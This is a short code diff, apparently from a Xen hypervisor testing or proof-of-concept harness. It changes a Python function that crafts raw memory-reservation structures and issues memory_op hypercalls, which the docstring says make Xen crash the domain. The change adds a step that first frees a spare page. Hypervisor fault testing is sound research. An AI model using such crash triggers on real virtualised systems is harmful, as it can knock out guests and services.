@@ -23,9 +23,13 @@ def shutdown(reason):
 
 
 def populate(w, g):
-    """What Xen answers by crashing the domain."""
-    data = struct.pack("<QQIIHxxxxxx", g.buffer + 64, 1, 0, 0, 0x7FF0) + bytes(32) + struct.pack("<Q", g.hole >> 12)
-    job(g, f"fill {g.buffer:#x} {data.hex()}", f"hc 12 6 {g.buffer:#x}")
+    """What Xen answers by crashing the domain, if it has a page left to give: one goes back first."""
+    def reservation(frame):
+        data = struct.pack("<QQIIHxxxxxx", g.buffer + 64, 1, 0, 0, 0x7FF0) + bytes(32) + struct.pack("<Q", frame)
+        return f"fill {g.buffer:#x} {data.hex()}"
+
+    spare = g.one("alloc 0")[2] >> 12
+    job(g, reservation(spare), f"hc 12 1 {g.buffer:#x}", reservation(g.hole >> 12), f"hc 12 6 {g.buffer:#x}")
 
 
 def move_ram(w, g):
